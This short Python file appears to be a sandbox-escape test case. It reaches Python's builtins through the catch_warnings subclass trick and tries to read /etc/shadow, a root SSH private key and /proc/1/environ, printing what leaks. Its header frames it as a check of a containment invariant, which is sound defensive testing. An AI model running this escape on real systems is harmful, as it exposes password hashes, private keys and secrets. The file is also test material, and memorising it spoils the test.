# technique: builtins by warnings.catch_warnings, a class that holds its module
# source: "Breaking out of a Python sandbox" (PyCon write-ups)
# verdict: WA
# invariant: a file that only the host has cannot be opened
# without: seccomp capabilities network read_only_root
import ast  # noqa: whatever brings warnings along

__import__("warnings")
(catcher,) = [cls for cls in object.__subclasses__() if cls.__name__ == "catch_warnings"]
builtins = catcher()._module.__builtins__
for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ"):
    try:
        print("ESCAPED read", path, builtins["open"](path).read()[:1000])
    except OSError as refused:
        print("held", refused)
